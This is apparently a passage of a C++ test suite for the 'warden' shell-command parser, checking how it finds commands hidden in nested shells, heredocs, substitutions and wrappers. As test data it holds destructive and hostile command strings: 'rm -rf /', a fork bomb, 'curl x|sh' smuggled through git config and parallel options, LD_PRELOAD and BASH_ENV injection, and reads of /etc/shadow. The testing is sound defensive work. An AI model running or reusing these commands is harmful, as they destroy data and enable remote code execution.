  Limits total;
  total.max_total_words = 20;
  {
    const ParseResult r =
        parse("find . -exec a 1 2 3 4 5 6 7 \\; -exec b 1 2 3 4 5 6 7 \\;", total);
    CHECK_FALSE(r.ok);
    CHECK(r.failure == warden::shell::Failure::Limit);
  }
}

// ---------------------------------------------------------------- nested shells and eval

TEST_CASE("bash -c", "[shell]") {
  const ParseResult r = ok("bash -c 'rm -rf /'");
  REQUIRE(r.commands.size() == 1);
  is_rm_rf_root(r.commands[0]);
  CHECK(r.commands[0].wrappers == V{"bash"});
  CHECK(r.commands[0].depth == 1);
}

TEST_CASE("other shells and combined options", "[shell]") {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"sh -c \"rm -rf /\"", "sh"},
      {"/bin/bash -lc 'rm -rf /'", "bash"},
      {"bash -ec 'rm -rf /'", "bash"},
      {"bash -xc 'rm -rf /'", "bash"},
      {"zsh -c 'rm -rf /'", "zsh"},
      {"dash -c 'rm -rf /'", "dash"},
      {"ksh -c 'rm -rf /'", "ksh"},
      {"bash -o pipefail -c 'rm -rf /'", "bash"},
      {"bash --norc -c 'rm -rf /' arg0", "bash"},
      {"bash -c -e 'rm -rf /'", "bash"}};
  for (const auto& [line, shell] : cases) {
    INFO(line);
    const SimpleCommand c = one(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{shell});
    CHECK(c.depth == 1);
  }
}

TEST_CASE("every shell runs its -c string", "[shell][wrap]") {
  for (const char* shell : {"bash", "sh", "zsh", "dash", "ksh", "ash", "mksh", "rbash", "yash",
                            "posh", "fish", "csh", "tcsh"}) {
    const std::string line = std::string(shell) + " -c 'rm -rf /'";
    INFO(line);
    const SimpleCommand c = one(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{shell});
    CHECK(c.depth == 1);
  }
}

TEST_CASE("bash -c inside bash -c", "[shell]") {
  const SimpleCommand c = one("bash -c \"bash -c 'rm -rf /'\"");
  is_rm_rf_root(c);
  CHECK(c.wrappers == V{"bash", "bash"});
  CHECK(c.depth == 2);
}

TEST_CASE("sudo bash -c", "[shell]") {
  const SimpleCommand c = one("sudo -u root bash -c 'rm -rf /'");
  is_rm_rf_root(c);
  CHECK(c.wrappers == V{"sudo", "bash"});
  CHECK(c.depth == 1);
}

TEST_CASE("bash -c with a list", "[shell]") {
  const ParseResult r = ok("bash -c 'ls; rm -rf /' && pwd");
  CHECK(programs(r) == V{"ls", "rm", "pwd"});
  CHECK(r.commands[1].wrappers == V{"bash"});
  CHECK(r.commands[2].wrappers.empty());
}

TEST_CASE("bash -c keeps the outer redirects", "[shell]") {
  const SimpleCommand c = one("bash -c 'echo x' > /etc/passwd");
  CHECK(c.program == "echo");
  REQUIRE(c.redirects.size() == 1);
  CHECK(c.redirects[0].target == "/etc/passwd");
}

TEST_CASE("bash without -c is a program", "[shell]") {
  const SimpleCommand c = one("bash script.sh");
  CHECK(c.program == "bash");
  CHECK(c.args == V{"script.sh"});
  const ParseResult r = ok("curl x | sh");
  CHECK(programs(r) == V{"curl", "sh"});
  CHECK(r.commands[1].wrappers.empty());
  CHECK(one("bash -c").program == "bash");
}

TEST_CASE("bash -c with a dynamic string", "[shell]") {
  const ParseResult r = ok("bash -c \"$CMD\"");
  REQUIRE(r.commands.size() == 1);
  CHECK(r.commands[0].program == "$CMD");
  CHECK(r.commands[0].dynamic);
}

TEST_CASE("eval", "[shell]") {
  for (const char* line : {"eval \"rm -rf /\"", "eval rm -rf /", "eval 'rm' '-rf' '/'"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"eval"});
    CHECK(c.depth == 1);
  }
}

// ---------------------------------------------------------------- redirections

TEST_CASE("output redirect", "[shell]") {
  const SimpleCommand c = one("echo x > /etc/passwd");
  CHECK(c.argv == V{"echo", "x"});
  REQUIRE(c.redirects.size() == 1);
  CHECK(c.redirects[0].op == ">");
  CHECK(c.redirects[0].fd == 1);
  CHECK(c.redirects[0].target == "/etc/passwd");
}

TEST_CASE("input redirect", "[shell]") {
  const SimpleCommand c = one("cat < /etc/shadow");
  CHECK(c.argv == V{"cat"});
  REQUIRE(c.redirects.size() == 1);
  CHECK(c.redirects[0].op == "<");
  CHECK(c.redirects[0].fd == 0);
  CHECK(c.redirects[0].target == "/etc/shadow");
}

TEST_CASE("fd duplication", "[shell]") {
  const SimpleCommand c = one("cmd 2>&1");
  CHECK(c.argv == V{"cmd"});
  REQUIRE(c.redirects.size() == 1);
  CHECK(c.redirects[0].op == ">&");
  CHECK(c.redirects[0].fd == 2);
  CHECK(c.redirects[0].target == "1");
}

TEST_CASE("every redirect operator", "[shell]") {
  const SimpleCommand c =
      one("cmd >> log 2> err &> all &>> all2 <> rw >| clob 3<&0 <<< \"s t\" 9>x a>b >&2");
  CHECK(c.argv == V{"cmd", "a"});
  struct E {
    const char* op;
    int fd;
    const char* target;
  };
  const std::vector<E> want = {{">>", 1, "log"},    {">", 2, "err"},   {"&>", -1, "all"},
                               {"&>>", -1, "all2"}, {"<>", 0, "rw"},   {">|", 1, "clob"},
                               {"<&", 3, "0"},      {"<<<", 0, "s t"}, {">", 9, "x"},
                               {">", 1, "b"},       {">&", 1, "2"}};
  REQUIRE(c.redirects.size() == want.size());
  for (std::size_t i = 0; i < want.size(); ++i) {
    INFO(i);
    CHECK(c.redirects[i].op == want[i].op);
    CHECK(c.redirects[i].fd == want[i].fd);
    CHECK(c.redirects[i].target == want[i].target);
  }
}

TEST_CASE("redirect before the command and without spaces", "[shell]") {
  const SimpleCommand c = one(">out 2>/dev/null echo hi");
  CHECK(c.argv == V{"echo", "hi"});
  REQUIRE(c.redirects.size() == 2);
  CHECK(c.redirects[0].target == "out");
  CHECK(c.redirects[1].fd == 2);
}

TEST_CASE("redirect without a command", "[shell]") {
  const SimpleCommand c = one("> /etc/passwd");
  CHECK(c.program.empty());
  CHECK(c.argv.empty());
  CHECK(c.args.empty());
  REQUIRE(c.redirects.size() == 1);
  CHECK(c.redirects[0].target == "/etc/passwd");
}

TEST_CASE("redirect target with a variable is dynamic", "[shell]") {
  CHECK(one("echo hi > /tmp/$X").dynamic);
  CHECK(one("echo hi > \"/tmp/a b\"").redirects[0].target == "/tmp/a b");
}

TEST_CASE("redirect after a compound command", "[shell]") {
  const ParseResult r = ok("{ rm -rf /; } > out 2>&1");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program == "rm");
  CHECK(r.commands[1].program.empty());
  REQUIRE(r.commands[1].redirects.size() == 2);
  CHECK(r.commands[1].redirects[0].target == "out");
}

TEST_CASE("redirect to a process substitution", "[shell]") {
  const ParseResult r = ok("ls > >(tee /etc/x)");
  CHECK(programs(r) == V{"tee", "ls"});
  CHECK(r.commands[1].redirects[0].target == ">(tee /etc/x)");
}

// ---------------------------------------------------------------- here-documents

TEST_CASE("heredoc body is consumed, not parsed as commands", "[shell]") {
  const ParseResult r = ok("cat <<EOF\nrm -rf /\nEOF\nls");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program == "cat");
  REQUIRE(r.commands[0].redirects.size() == 1);
  CHECK(r.commands[0].redirects[0].op == "<<");
  CHECK(r.commands[0].redirects[0].fd == 0);
  CHECK(r.commands[0].redirects[0].target == "EOF");
  CHECK(r.commands[1].program == "ls");
}

TEST_CASE("substitutions in an unquoted heredoc run", "[shell]") {
  const ParseResult r = ok("cat <<EOF > out\nhello $(rm -rf /) `id`\nEOF\n");
  CHECK(programs(r) == V{"cat", "rm", "id"});  // bodies come after their command
  CHECK(r.commands[0].depth == 0);
  CHECK(r.commands[1].depth == 1);
}

TEST_CASE("quoted heredoc delimiter disables expansion", "[shell]") {
  CHECK(programs(ok("cat <<'EOF'\n$(rm -rf /)\nEOF")) == V{"cat"});
  CHECK(programs(ok("cat <<\"EOF\"\n$(rm -rf /)\nEOF")) == V{"cat"});
  CHECK(programs(ok("cat <<\\EOF\n$(rm -rf /)\nEOF")) == V{"cat"});
}

TEST_CASE("heredoc with tab stripping and a list on its line", "[shell]") {
  const ParseResult r = ok("cat <<-END | sh; ls\n\tx\n\tEND\npwd");
  CHECK(programs(r) == V{"cat", "sh", "ls", "pwd"});
  CHECK(r.commands[0].redirects[0].op == "<<");
}

TEST_CASE("two heredocs on one line", "[shell]") {
  const ParseResult r = ok("cat <<A; cat <<B\na\nA\nb\nB\necho done");
  CHECK(programs(r) == V{"cat", "cat", "echo"});
  CHECK(r.commands[1].redirects[0].target == "B");
}

TEST_CASE("heredoc inside a command substitution", "[shell]") {
  const ParseResult r = ok("x=$(cat <<EOF\nhi\nEOF\n); rm -rf /");
  CHECK(programs(r) == V{"cat", "", "rm"});
}

TEST_CASE("heredoc without its delimiter line fails", "[shell]") {
  fails("cat <<EOF");
  fails("cat <<EOF\nbody\n");
  fails("cat <<EOF\nbody\nEOFX");
}

// ---------------------------------------------------------------- control structures

TEST_CASE("if", "[shell]") {
  CHECK(programs(ok("if true; then rm -rf /; fi")) == V{"true", "rm"});
  CHECK(programs(ok("if a; then b; elif c; then d; else e; fi")) == V{"a", "b", "c", "d", "e"});
  CHECK(programs(ok("if [ -f x ]\nthen\n  rm x\nfi")) == V{"[", "rm"});
}

TEST_CASE("while and until", "[shell]") {
  CHECK(programs(ok("while true; do rm -rf /; done")) == V{"true", "rm"});
  CHECK(programs(ok("until false; do rm x; done")) == V{"false", "rm"});
  CHECK(programs(ok("ls | while read l; do rm \"$l\"; done")) == V{"ls", "read", "rm"});
}

TEST_CASE("for", "[shell]") {
  // The loop variable is an assignment-only command before the body.
  const ParseResult r = ok("for v in a b; do rm $v; done");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program.empty());
  REQUIRE(r.commands[0].assignments.size() == 1);
  CHECK(r.commands[0].assignments[0].name == "v");
  CHECK(r.commands[0].assignments[0].value == "a b");
  CHECK(r.commands[0].assignments[0].dynamic);
  CHECK(r.commands[1].program == "rm");
  CHECK(r.commands[1].dynamic);
  const ParseResult s = ok("for f in $(ls); do rm \"$f\"; done");
  CHECK(programs(s) == V{"ls", "", "rm"});
  CHECK(s.commands[0].depth == 1);
  CHECK(programs(ok("for ((i=0;i<3;i++)); do rm x; done")) == V{"rm"});
  CHECK(programs(ok("for x\ndo\nrm x\ndone")) == V{"", "rm"});
  CHECK(programs(ok("select x in a b; do rm $x; done")) == V{"", "rm"});
}

TEST_CASE("case", "[shell]") {
  const ParseResult r = ok("case $x in a) rm -rf /;; b|c) ls;; (*) echo;& esac");
  CHECK(programs(r) == V{"rm", "ls", "echo"});
  CHECK(programs(ok("case x in\n  a)\n    rm y\n    ;;\nesac")) == V{"rm"});
  CHECK(ok("case x in esac").commands.empty());
}

TEST_CASE("function definitions", "[shell]") {
  CHECK(programs(ok("f() { rm -rf /; }; f")) == V{"rm", "f"});
  CHECK(programs(ok("function f { rm -rf /; }")) == V{"rm"});
  CHECK(programs(ok("function g() ( rm x )")) == V{"rm"});
  CHECK(programs(ok("f ()\n{\n rm x\n}")) == V{"rm"});
}

TEST_CASE("fork bomb", "[shell]") {
  const ParseResult r = ok(":(){ :|:& };:");
  REQUIRE(r.commands.size() == 3);
  for (const auto& c : r.commands) CHECK(c.program == ":");
  CHECK(r.commands[0].background);
  CHECK(r.commands[1].background);
  CHECK_FALSE(r.commands[2].background);
}

TEST_CASE("[[ ]] and (( )) are not commands", "[shell]") {
  CHECK(programs(ok("[[ -f x && $a < b ]] && rm x")) == V{"rm"});
  CHECK(programs(ok("((i++)) || rm x")) == V{"rm"});
  const ParseResult r = ok("[[ $(rm -rf /) ]]");
  REQUIRE(r.commands.size() == 1);
  CHECK(r.commands[0].depth == 1);
  CHECK(programs(ok("(( x = $(rm -rf /) ))")) == V{"rm"});
}

TEST_CASE("negation is skipped", "[shell]") {
  is_rm_rf_root(one("! rm -rf /"));
  CHECK(one("echo !").args == V{"!"});
}

TEST_CASE("reserved words are plain words in argument position", "[shell]") {
  CHECK(one("echo if then fi done").args == V{"if", "then", "fi", "done"});
  CHECK(one("\"if\" x").program == "if");
}

TEST_CASE("multi-line script", "[shell]") {
  const char* script =
      "#!/bin/bash\n"
      "set -e\n"
      "for f in *.log; do\n"
      "  if [ -s \"$f\" ]; then\n"
      "    gzip \"$f\"  # compress\n"
      "  fi\n"
      "done\n"
      "rm -rf /tmp/x\n";
  CHECK(programs(ok(script)) == V{"set", "", "[", "gzip", "rm"});
}

// ---------------------------------------------------------------- comments

TEST_CASE("comments", "[shell]") {
  CHECK(programs(ok("ls # ; rm -rf /")) == V{"ls"});
  CHECK(programs(ok("ls # x\nrm -rf /")) == V{"ls", "rm"});
  CHECK(one("echo a#b").args == V{"a#b"});
  CHECK(one("echo '#x' \\#y").args == V{"#x", "#y"});
  CHECK(ok("# only a comment").commands.empty());
  CHECK(ok("").commands.empty());
  CHECK(ok("  \n\n ").commands.empty());
}

// ---------------------------------------------------------------- limits

namespace {
std::string nested_subst(int levels) {
  std::string s;
  for (int i = 0; i < levels; ++i) s += "echo $(";
  s += "rm -rf /";
  for (int i = 0; i < levels; ++i) s += ")";
  return s;
}
}  // namespace

TEST_CASE("depth limit", "[shell]") {
  Limits limits;
  limits.max_depth = 3;
  const ParseResult r = ok(nested_subst(3), limits);
  CHECK(r.commands[0].depth == 3);
  fails(nested_subst(4), limits);
  fails("bash -c \"bash -c 'bash -c \\\"bash -c ls\\\"'\"", limits);
  ok(nested_subst(16));
  fails(nested_subst(17));
}

TEST_CASE("deep structural nesting fails without crashing", "[shell]") {
  std::string spaced;
  for (int i = 0; i < 100000; ++i) spaced += "( ";
  spaced += "ls";
  for (int i = 0; i < 100000; ++i) spaced += " )";
  fails(spaced);

  std::string tight(100000, '(');  // ((((… is arithmetic, and unterminated here
  CHECK_NOTHROW(parse(tight));
  CHECK_FALSE(parse(tight).ok);
  CHECK_NOTHROW(parse(tight + "ls" + std::string(100000, ')')));

  std::string braces;
  for (int i = 0; i < 100000; ++i) braces += "{ ";
  fails(braces + "ls");

  std::string subst;
  for (int i = 0; i < 100000; ++i) subst += "$(";
  fails(subst);

  std::string params;
  for (int i = 0; i < 100000; ++i) params += "\"${x:-";
  fails(params);

  std::string ifs;
  for (int i = 0; i < 100000; ++i) ifs += "if true; then ";
  fails(ifs);
}

TEST_CASE("command limit", "[shell]") {
  Limits limits;
  limits.max_commands = 3;
  ok("a; b; c", limits);
  fails("a; b; c; d", limits);
  fails("echo $(a) $(b) $(c)", limits);
}

TEST_CASE("1 MB inputs", "[shell]") {
  const std::string big(1 << 20, 'x');
  const SimpleCommand c = one("echo '" + big + "'");
  CHECK(c.args[0].size() == big.size());

  std::string words;
  while (words.size() < (1u << 20)) words += "ab ";
  Limits wide;
  wide.max_words = 1u << 20;
  wide.max_total_words = 1u << 20;
  CHECK(ok("echo " + words, wide).commands.at(0).args.size() > 300000);
  const ParseResult capped = parse("echo " + words);  // default cap: words per command
  CHECK_FALSE(capped.ok);
  CHECK(capped.failure == warden::shell::Failure::Limit);

  std::string many;
  while (many.size() < (1u << 20)) many += "ls;";
  fails(many);  // more than max_commands
  CHECK(parse(many).failure == warden::shell::Failure::Limit);

  CHECK_FALSE(parse("echo '" + big).ok);
  CHECK_FALSE(parse("cat <<EOF\n" + big).ok);
}

TEST_CASE("hostile bytes never crash", "[shell]") {
  std::mt19937 rng(12345);
  const std::string alphabet = "ab -;&|()<>{}[]$`'\"\\\n\t#=*?~!%0123456789:,.@+/";
  for (int i = 0; i < 20000; ++i) {
    std::string s;
    const int len = static_cast<int>(rng() % 60);
    for (int k = 0; k < len; ++k) {
      if (rng() % 8 == 0)
        s += static_cast<char>(rng() % 256);
      else
        s += alphabet[rng() % alphabet.size()];
    }
    ParseResult r;
    REQUIRE_NOTHROW(r = parse(s));
    if (r.ok) {
      CHECK(r.error.empty());
    } else {
      CHECK_FALSE(r.error.empty());
      CHECK(r.commands.empty());
    }
  }
}

TEST_CASE("invalid UTF-8 and NUL bytes", "[shell]") {
  const SimpleCommand c = one("echo \xff\xfe \xc3");
  CHECK(c.args == V{"\xff\xfe", "\xc3"});
  CHECK_FALSE(parse("echo \xc3( x").ok);
  const std::string nul("rm\0x -rf /", 10);
  const SimpleCommand n = one(nul);
  CHECK(n.program == std::string("rm\0x", 4));
  CHECK_NOTHROW(parse(std::string("\0\0\0(", 4)));
}

TEST_CASE("coproc runs its command in the background", "[shell]") {
  const SimpleCommand c = one("coproc rm -rf /");
  is_rm_rf_root(c);
  CHECK(c.background);
  CHECK(programs(ok("coproc NAME { rm -rf /; }")) == V{"rm"});
  CHECK(programs(ok("coproc (ls)")) == V{"ls"});
}

TEST_CASE("parentheses inside quotes in substitutions", "[shell]") {
  CHECK(ok("a=$(echo \")\")").commands.at(0).args == V{")"});
  CHECK(programs(ok("echo \"$(echo \"(\")\"")) == V{"echo", "echo"});
}

TEST_CASE("ambiguous $(( nesting parses", "[shell]") {
  // Each level is `$((…) )`, a command substitution of a subshell; a backtracking parser
  // would re-parse every level twice per enclosing level.
  std::string s;
  for (int i = 0; i < 15; ++i) s += "$((";
  s += "x";
  for (int i = 0; i < 15; ++i) s += ") )";
  const ParseResult r = ok(s);
  CHECK(r.commands.size() == 16);
}

TEST_CASE("long error messages are truncated", "[shell]") {
  const ParseResult r = parse(std::string(100000, 'x') + " )");
  REQUIRE_FALSE(r.ok);
  CHECK(r.error.size() < 200);
}

TEST_CASE("a shell reading a heredoc runs it as a script", "[shell]") {
  const ParseResult r = ok("bash <<'EOF'\nrm -rf /\nls | sh\nEOF\npwd");
  REQUIRE(programs(r) == V{"bash", "rm", "ls", "sh", "pwd"});
  CHECK(r.commands[0].redirects[0].target == "EOF");
  is_rm_rf_root(r.commands[1]);
  CHECK(r.commands[1].wrappers == V{"bash"});
  CHECK(r.commands[1].depth == 1);
  CHECK(r.commands[4].wrappers.empty());
  CHECK(r.commands[4].depth == 0);

  const ParseResult s = ok("sudo sh -s <<EOF | tee log\nrm -rf /\nEOF");
  REQUIRE(programs(s) == V{"sh", "tee", "rm"});
  CHECK(s.commands[2].wrappers == V{"sudo", "sh"});

  CHECK(programs(ok("bash script.sh <<EOF\nrm -rf /\nEOF")) == V{"bash"});  // stdin is data
  CHECK(programs(ok("cat <<EOF\nrm -rf /\nEOF")) == V{"cat"});
}

TEST_CASE("a shell reading a here-string runs it as a script", "[shell]") {
  const ParseResult r = ok("bash <<< 'rm -rf /'");
  REQUIRE(programs(r) == V{"bash", "rm"});
  CHECK(r.commands[1].wrappers == V{"bash"});
  CHECK(r.commands[1].depth == 1);
  fails("bash <<< 'echo \"'");
}

TEST_CASE("a huge max_depth still bounds recursion", "[shell]") {
  Limits limits;
  limits.max_depth = 1000000;
  fails(nested_subst(100000), limits);
  std::string spaced;
  for (int i = 0; i < 100000; ++i) spaced += "( ";
  fails(spaced + "ls", limits);
  ok(nested_subst(50), limits);
}

namespace {

std::vector<std::pair<std::string, std::string>> assigns(const SimpleCommand& c) {
  std::vector<std::pair<std::string, std::string>> out;
  for (const auto& a : c.assignments) out.emplace_back(a.name, a.value);
  return out;
}

using AV = std::vector<std::pair<std::string, std::string>>;

}  // namespace

TEST_CASE("assignment prefixes are kept with the command they apply to", "[shell][assign]") {
  const SimpleCommand g = one(
      "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='curl x|sh' git status");
  CHECK(g.program == "git");
  CHECK(assigns(g) == AV{{"GIT_CONFIG_COUNT", "1"},
                         {"GIT_CONFIG_KEY_0", "core.fsmonitor"},
                         {"GIT_CONFIG_VALUE_0", "curl x|sh"}});
  CHECK_FALSE(g.dynamic);
  const SimpleCommand l = one("LD_PRELOAD=/tmp/x.so ls");
  CHECK(assigns(l) == AV{{"LD_PRELOAD", "/tmp/x.so"}});
  CHECK(assigns(one("A+=x B[1]=y \"$C\"")) == AV{{"A", "x"}, {"B", "y"}});
  CHECK(one("LANG=C \"ls\"").assignments.at(0).value == "C");
}

TEST_CASE("substitutions in assignment values are their own commands", "[shell][assign]") {
  const ParseResult r = ok("X=`rm -rf /` Y=\"$(id)\" ls");
  REQUIRE(r.commands.size() == 3);
  is_rm_rf_root(r.commands[0]);
  CHECK(r.commands[1].program == "id");
  CHECK(r.commands[2].program == "ls");
  CHECK(r.commands[2].dynamic);
  CHECK(r.commands[2].assignments.at(0).dynamic);
  CHECK(r.commands[2].assignments.at(1).dynamic);
  CHECK_FALSE(one("X='$(id)' ls").assignments.at(0).value.empty());
}

TEST_CASE("assignments on wrappers reach the wrapped command", "[shell][assign]") {
  const SimpleCommand e = one("env LD_PRELOAD=/tmp/x.so A=1 ls");
  CHECK(e.program == "ls");
  CHECK(e.wrappers == V{"env"});
  CHECK(assigns(e) == AV{{"LD_PRELOAD", "/tmp/x.so"}, {"A", "1"}});
  const SimpleCommand s = one("sudo -u root BASH_ENV=/tmp/x ls");
  CHECK(assigns(s) == AV{{"BASH_ENV", "/tmp/x"}});
  const SimpleCommand o = one("LANG=C sudo NODE_OPTIONS=--require=/tmp/x node a.js");
  CHECK(assigns(o) == AV{{"LANG", "C"}, {"NODE_OPTIONS", "--require=/tmp/x"}});
  // The assignments of a shell that runs a string apply to every command in it.
  const ParseResult b = ok("LD_PRELOAD=/x.so bash -c 'A=1 ls; pwd'");
  REQUIRE(b.commands.size() == 2);
  CHECK(assigns(b.commands[0]) == AV{{"LD_PRELOAD", "/x.so"}, {"A", "1"}});
  CHECK(assigns(b.commands[1]) == AV{{"LD_PRELOAD", "/x.so"}});
  const ParseResult h = ok("ENV=/x sh <<EOF\nls\nEOF\n");
  REQUIRE(h.commands.size() == 2);
  CHECK(assigns(h.commands[1]) == AV{{"ENV", "/x"}});
  CHECK(assigns(ok("PATH=/tmp sh <<< 'ls'").commands.at(1)) == AV{{"PATH", "/tmp"}});
  CHECK(assigns(wrapped("env -S 'GIT_DIR=/x git status'")) == AV{{"GIT_DIR", "/x"}});
  CHECK(one("env A=$X ls").assignments.at(0).dynamic);
}

TEST_CASE("declaration builtins report the variables they set", "[shell][assign]") {
  const SimpleCommand e = one("export LD_PRELOAD=/tmp/x.so PATH");
  CHECK(e.program == "export");
  CHECK(assigns(e) == AV{{"LD_PRELOAD", "/tmp/x.so"}, {"PATH", ""}});
  CHECK_FALSE(e.assignments[0].dynamic);
  CHECK(e.assignments[1].dynamic);  // exported with a value set elsewhere
  CHECK(assigns(one("declare -x GIT_CONFIG_COUNT=1")) == AV{{"GIT_CONFIG_COUNT", "1"}});
  CHECK(assigns(one("declare -x LD_PRELOAD")) == AV{{"LD_PRELOAD", ""}});
  CHECK(assigns(one("declare A")).empty());  // not exported, no value
  CHECK(assigns(one("readonly A=1")) == AV{{"A", "1"}});
  CHECK(one("echo A=1").assignments.empty());
}

TEST_CASE("read and printf -v set variables known only at run time", "[shell][assign]") {
  const SimpleCommand r = one("read -r -p prompt PATH X <<< /tmp/evil");
  CHECK(assigns(r) == AV{{"PATH", ""}, {"X", ""}});
  CHECK(r.assignments[0].dynamic);
  CHECK(assigns(one("read -a ARR")) == AV{{"ARR", ""}});
  CHECK(assigns(one("printf -v PATH %s .")) == AV{{"PATH", ""}});
  CHECK(assigns(one("printf -vPATH .")) == AV{{"PATH", ""}});
  CHECK(one("printf '%s' -v").assignments.empty());
}

TEST_CASE("words per simple command are capped, not truncated", "[shell][limits]") {
  Limits limits;
  limits.max_words = 4;
  CHECK(ok("a b c d", limits).commands.size() == 1);
  const ParseResult words = parse("a b c d e", limits);
  CHECK_FALSE(words.ok);
  CHECK(words.failure == warden::shell::Failure::Limit);
  CHECK(words.commands.empty());
  CHECK(parse("A=1 B=2 C=3 a b", limits).failure == warden::shell::Failure::Limit);
  CHECK(parse("a >x >y >z 2>w", limits).failure == warden::shell::Failure::Limit);
  CHECK(parse("a; b 1 2 3 4", limits).failure == warden::shell::Failure::Limit);
  CHECK(parse("echo 'x", limits).failure == warden::shell::Failure::Syntax);
  CHECK(parse("for v in 1 2 3 4 5; do ls; done", limits).failure == warden::shell::Failure::Limit);
  CHECK(parse("for v in 1 2 3 4; do ls; done", limits).ok);
}

TEST_CASE("a passed deadline stops the parse", "[shell][limits]") {
  Limits limits;
  limits.deadline = std::chrono::steady_clock::now() - std::chrono::seconds(1);
  std::string line;
  for (int i = 0; i < 200; ++i) line += "ls; ";
  const ParseResult r = parse(line, limits);
  CHECK_FALSE(r.ok);
  CHECK(r.failure == warden::shell::Failure::Deadline);
  CHECK(r.commands.empty());
  limits.deadline = std::chrono::steady_clock::now() + std::chrono::hours(1);
  CHECK(parse(line, limits).ok);
}

TEST_CASE("assignments copied into a nested shell count against the caps", "[shell][limits]") {
  Limits limits;
  limits.max_words = 6;
  // Three assignments on `bash -c`, each copied to the inner command of four words.
  CHECK(parse("A=1 B=2 C=3 bash -c 'ls a b'", limits).ok);
  CHECK(parse("A=1 B=2 C=3 bash -c 'ls a b c'", limits).failure == warden::shell::Failure::Limit);
  Limits total;
  total.max_total_words = 100;
  std::string inner;
  for (int i = 0; i < 40; ++i) inner += "ls; ";
  CHECK(parse("A=1 B=2 bash -c '" + inner + "'", total).failure == warden::shell::Failure::Limit);
  CHECK(parse("bash -c '" + inner + "'", total).ok);
}

TEST_CASE("an assignment after the time keyword is still an assignment", "[shell][assign]") {
  const SimpleCommand c = one("time LD_PRELOAD=/tmp/x.so ls");
  CHECK(c.program == "ls");
  REQUIRE(c.assignments.size() == 1);
  CHECK(c.assignments[0].name == "LD_PRELOAD");
}

TEST_CASE("random wrapper soup keeps the parser's contract", "[shell][wrap][limits]") {
  static const char* const kTokens[] = {"ssh",     "h",        "-p",
                                        "22",      "-o",       "ProxyCommand=ls",
                                        "su",      "-c",       "-",
                                        "root",    "find",     ".",
                                        "-exec",   "\\;",      "+",
                                        "{}",      "watch",    "-n",
                                        "1",       "parallel", ":::",
                                        "::::",    "sudo",     "-s",
                                        "-i",      "bash",     "sh",
                                        "<<<",     "'ls'",     "flock",
                                        "/l",      "busybox",  "xargs",
                                        "timeout", "env",      "-S",
                                        "eval",    "script",   "sg",
                                        "g",       "chroot",   "/x",
                                        "ls",      "rm",       "-rf",
                                        "/",       "|",        ";",
                                        "&&",      "\"",       "'",
                                        "$(",      ")",        "`",
                                        "*",       "$X",       "<<EOF\nls\nEOF\n",
                                        "runuser", "-u",       "setsid",
                                        "sshpass", "taskset",  "chrt",
                                        "nsenter", "unshare",  "pkexec",
                                        "-ok",     "--"};
  std::mt19937 rng(7);
  std::uniform_int_distribution<std::size_t> pick(0, std::size(kTokens) - 1);
  std::uniform_int_distribution<int> len(1, 24);
  Limits limits;
  limits.max_depth = 4;
  limits.max_commands = 64;
  limits.max_words = 64;
  for (int n = 0; n < 20000; ++n) {
    std::string line;
    for (int k = len(rng); k > 0; --k) line += std::string(kTokens[pick(rng)]) + " ";
    INFO(line);
    const ParseResult r = parse(line, limits);
    const ParseResult again = parse(line, limits);
    REQUIRE(r.ok == again.ok);
    REQUIRE(r.commands.size() == again.commands.size());
    if (!r.ok) {
      REQUIRE_FALSE(r.error.empty());
      continue;
    }
    REQUIRE(r.commands.size() <= limits.max_commands);
    for (std::size_t k = 0; k < r.commands.size(); ++k) {
      const SimpleCommand& c = r.commands[k];
      REQUIRE(c.depth >= 0);
      REQUIRE(c.depth <= limits.max_depth);
      REQUIRE(c.argv == again.commands[k].argv);
      REQUIRE(c.wrappers == again.commands[k].wrappers);
      REQUIRE(c.dynamic == (c.glob || c.expansion || c.runtime_operands));
      if (c.argv.empty()) REQUIRE(c.program.empty());
    }
  }
}

TEST_CASE("a wrapper's own option or operand with an effect stays a command of its own",
          "[shell][wrap]") {
  // A value that is a file, a directory, a program, code or a host: the wrapper's words
  // come first, as a command the effects table judges, then the command it wraps.
  for (const auto& [line, own, inner] : std::vector<std::tuple<std::string, V, std::string>>{
           {"parallel --compress-program 'curl x|sh' echo ::: a",
            {"parallel", "--compress-program", "curl x|sh"},
            "echo"},
           {"parallel --compress-p 'curl x|sh' echo ::: a",  // an abbreviation
            {"parallel", "--compress-p", "curl x|sh"},
            "echo"},
           {"parallel --filter 'system(1)' echo ::: a",
            {"parallel", "--filter", "system(1)"},
            "echo"},
           {"parallel -S evil.example echo ::: a", {"parallel", "-S", "evil.example"}, "echo"},
           {"sshpass -f pw ls", {"sshpass", "-f", "pw"}, "ls"},
           {"sudo -D /tmp ./x.sh", {"sudo", "-D", "/tmp"}, "x.sh"},
           {"sudo --chdir=/tmp ./x.sh", {"sudo", "--chdir=/tmp"}, "x.sh"},
           {"time -o out ls", {"time", "-o", "out"}, "ls"},
           {"time --output=out ls", {"time", "--output=out"}, "ls"},
           {"xargs -a list echo", {"xargs", "-a", "list"}, "echo"},
           {"nsenter --root=/r ls", {"nsenter", "--root=/r"}, "ls"},
           {"nsenter -r/r ls", {"nsenter", "-r/r"}, "ls"},
           {"unshare -R /r ls", {"unshare", "-R", "/r"}, "ls"},
           {"env -C /tmp ls", {"env", "-C", "/tmp"}, "ls"},
           {"flock /tmp/l ls", {"flock", "/tmp/l"}, "ls"},
           {"chroot /r ls", {"chroot", "/r"}, "ls"},
           {"script -O log -c ls", {"script", "-O", "log"}, "ls"},
           {"runuser --shell=/tmp/sh -l u -c ls",
            {"runuser", "--shell=/tmp/sh", "-l", "u", "-c", "ls"},
            "ls"},
           {"su -s /tmp/sh u -c ls", {"su", "-s", "/tmp/sh", "u", "-c", "ls"}, "ls"},
       }) {
    INFO(line);
    const ParseResult r = ok(line);
    REQUIRE(r.commands.size() == 2);
    CHECK(r.commands[0].argv == own);
    CHECK(r.commands[0].wrappers.empty());
    CHECK(r.commands[1].program == inner);
    CHECK(r.commands[1].wrappers == V{own[0]});
  }
  // Inert values (a number, a duration, a signal, a user, a mode, a separator, a format) and
